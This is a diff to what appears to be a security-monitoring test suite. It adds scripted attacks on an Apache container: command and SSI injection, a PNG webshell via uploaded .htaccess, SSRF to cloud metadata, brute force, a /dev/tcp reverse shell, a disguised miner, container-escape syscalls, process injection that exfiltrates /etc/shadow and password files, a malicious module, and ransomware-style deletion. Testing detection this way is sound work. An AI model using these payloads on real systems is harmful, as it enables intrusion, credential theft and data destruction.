@@ -340,3 +340,196 @@ rare_password_changed() {
 	staff /list1.txt -u ann:lighthouse -o /dev/null
 	session apache /usr/bin/htpasswd -b /etc/apache2/staff.users ann harbour
 }
+
+# ---- attacks ----
+
+# print_shell COMMANDS: by the width of a page for the printer; their output on stdout.
+print_shell() {
+	cgi 'printable.sh?page1' -G --data-urlencode "=72; $(tr -s '\n\t' ' ' <<<"$1") #"
+}
+
+attack_command_injection() {
+	harm exec /usr/bin/id
+	harm read /etc/apache2/staff.users
+	print_shell 'id; cat /etc/apache2/staff.users' | tee "$stage/answer" | grep -q uid=33
+	grep -q '^ann:.apr1' "$stage/answer"
+}
+
+# A line of the guest book that is a directive for the server.
+attack_directive_injection() {
+	harm exec /usr/bin/dash
+	harm exec /usr/bin/id
+	harm read '/proc/*/environ'
+	cgi guestbook.sh -o /dev/null -d '<!--#exec cmd="id; cat /etc/passwd /proc/self/environ" -->'
+	fetch /guestbook.shtml | tr '\0' '\n' >"$stage/answer"
+	grep -q uid=33 "$stage/answer" && grep -q LIBRARY_KEY=key-of "$stage/answer"
+}
+
+# Settings of the attacker's own make a picture a program.
+attack_settings_uploaded() {
+	harm write '/srv/www/covers/.htaccess*'
+	harm exec /srv/www/covers/note.png
+	harm exec /usr/bin/id
+	printf 'Options +ExecCGI\nAddHandler cgi-script .png\n' | cover_upload .htaccess
+	# shellcheck disable=SC2016 # the container's shell
+	printf '%s\n' '#!/bin/sh' 'printf "Content-Type: text/plain\r\n\r\n"' \
+		'sh -c "$(printf %s "$QUERY_STRING" | sed s/+/\ /g)"' | cover_upload note.png
+	fetch '/covers/note.png?id;uname+-a' | grep -q uid=33
+}
+
+# The reader of other libraries' pages reads what only this machine may: its cloud's metadata.
+attack_request_forgery() {
+	harm connect 169.254.169.254:80
+	fetch /reader/169.254.169.254/latest/meta-data/iam/security-credentials/app | grep -q metadata-secret-key
+}
+
+attack_brute_force() {
+	local p
+	harm read /srv/www/staff/list7.txt
+	for p in 123456 password qwerty letmein dragon monkey {1..60} football iloveyou master summer sunshine; do
+		! staff /list7.txt -u "bob:$p" | grep -q 'list 7' || return 0
+	done
+	return 1
+}
+
+attack_reverse_shell() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:4444"
+	thief_shell 'id; ls /srv/www; exit'
+	print_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
+	thief_got uid=33
+}
+
+attack_miner() {
+	harm exec /tmp/.kworkerd
+	harm connect "$peer_address:3333"
+	armoury_begin
+	print_shell "$(miner_commands /tmp/.kworkerd)"
+	pool_got
+}
+
+attack_scan() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:22"
+	# shellcheck disable=SC2016 # the container's shell
+	print_shell "bash -c 'for p in 21 22 23 25 53 80 443 3306 5432 6379 8000 8080 {9000..9100}; do
+		(exec 3<>/dev/tcp/$peer_address/\$p) && echo open \$p; done 2>/dev/null'" | grep -q 'open 8000'
+}
+
+attack_escape() {
+	harm call mount
+	harm call unshare
+	harm call setns
+	harm call ptrace
+	print_shell 'python3 -c "import ctypes; c = ctypes.CDLL(None);
+		print(c.mount(0, 0, 0, 0, 0), c.setns(0, 0), c.ptrace(16, 1, 0, 0));
+		print(c.open(b\"/proc/sys/kernel/core_pattern\", 1), c.open(b\"/sys/fs/cgroup/release_agent\", 1));
+		print(\"unshare\", c.unshare(0x10020000))"' | grep -q '^unshare'
+}
+
+# worker_pid: the host's pid of a process that answers requests. The master and the one that starts programs have
+# one thread.
+worker_pid() {
+	local pid
+	for pid in $(tasks_named apache 'sbin/apache2 -D'); do
+		[ "$(find "/proc/$pid/task" -mindepth 1 -maxdepth 1 | wc -l)" -lt 5 ] || { echo "$pid" && return; }
+	done
+	return 1
+}
+
+# Code inside a worker, as after an overflow, starts a shell.
+attack_code_shell() {
+	harm exec /usr/bin/dash
+	harm exec /usr/bin/id
+	harm write /tmp/out
+	inject_pid "$(worker_pid)" 'print (int) system("id >/tmp/out; cat /etc/apache2/staff.users >>/tmp/out")'
+	grep -q uid=33 "$(image_path apache /tmp/out)"
+}
+
+# Code inside the master, which is root: reads what only root may.
+attack_code_credentials() {
+	harm read /etc/shadow
+	harm read /etc/apache2/tls/key.pem
+	inject_pid "${container_pid[apache]}" 'print (int) open("/etc/shadow", 0)' \
+		'print (int) open("/etc/apache2/tls/key.pem", 0)' | tee "$stage/answer"
+	[ "$(grep -cE '= [0-9]+' "$stage/answer")" = 2 ]
+}
+
+# worker_sends ADDRESS: code inside a worker sends the passwords there, and starts no program. ADDRESS is the first
+# eight bytes of a socket address, as a number.
+worker_sends() {
+	# shellcheck disable=SC2016 # the debugger's variables
+	inject_pid "$(worker_pid)" 'set $a = (char *) malloc(256)' "set {long} \$a = $1" \
+		'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
+		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' \
+		'set $f = (int) open("/etc/apache2/staff.users", 0)' 'print (long) sendfile($s, $f, 0, 4096)' \
+		'print (int) close($f)' 'print (int) close($s)'
+}
+
+attack_code_connect() {
+	harm read /etc/apache2/staff.users
+	harm connect "$peer_address:4444"
+	thief_begin
+	worker_sends 0x0100580a5c110002
+	thief_got '^ann:'
+}
+
+# A module of the attacker's, written by code inside the master and loaded at the next reload, by root.
+attack_module_loaded() {
+	harm write /usr/lib/apache2/modules/mod_zlib.so
+	harm write /etc/apache2/mods-enabled/zlib.load
+	harm mapx /usr/lib/apache2/modules/mod_zlib.so
+	harm connect "$peer_address:4444"
+	thief_begin
+	preload_library "$(image_path apache /tmp/helper)" /etc/shadow
+	inject_pid "${container_pid[apache]}" "call (int) system(\"cp /tmp/helper /usr/lib/apache2/modules/mod_zlib.so; \
+echo LoadFile /usr/lib/apache2/modules/mod_zlib.so >/etc/apache2/mods-enabled/zlib.load\")"
+	reload_service
+	thief_got '^root:'
+}
+
+# ---- adaptive: known calls, files and peers only ----
+
+# All lists of the staff, and what is closed to readers, by one who has the password.
+adaptive_crawl() {
+	local n
+	harm read '/srv/www/staff/list*.txt'
+	harm read /srv/www/library/closed/budget.txt
+	for n in $(seq 30); do
+		staff "/list$n.txt" -u bob:sunshine
+	done | grep -c ^list | grep -qx 30 &&
+		fetch /closed/budget.txt -u bob:sunshine | grep -qx 2999
+}
+
+# What the staff share is written anew, by one who may.
+adaptive_tamper() {
+	local n
+	harm rename '/srv/www/shared/plan*.odt'
+	for n in $(seq 30); do
+		echo defaced | shared_put "/shared/plan$n.odt"
+	done
+	staff /shared/plan7.odt -u bob:sunshine | grep -q defaced
+}
+
+# All that the staff share is deleted, and a note says what to pay.
+adaptive_ransom() {
+	local n
+	harm unlink '/srv/www/shared/plan*.odt'
+	for n in 1 2 3 4 5 6; do
+		seq 2000 | shared_put "/shared/plan$n.odt"
+	done
+	for n in $(seq 30); do
+		staff "/shared/plan$n.odt" -u ann:harbour -X DELETE -o /dev/null
+	done
+	echo 'Pay, and get your plans back' | shared_put /shared/plan1.odt
+	staff /shared/plan2.odt -u bob:sunshine | grep -q 'Not Found'
+}
+
+# Code inside a worker sends the passwords to the partner, by calls that every worker makes.
+adaptive_upstream() {
+	harm read /etc/apache2/staff.users
+	harm connect "$peer_address:8000"
+	worker_sends 0x0100580a401f0002
+	# Its log has the first line, which is no request.
+	until_true 10 grep -q 'apr1' "$stage/peer-world.log"
+}
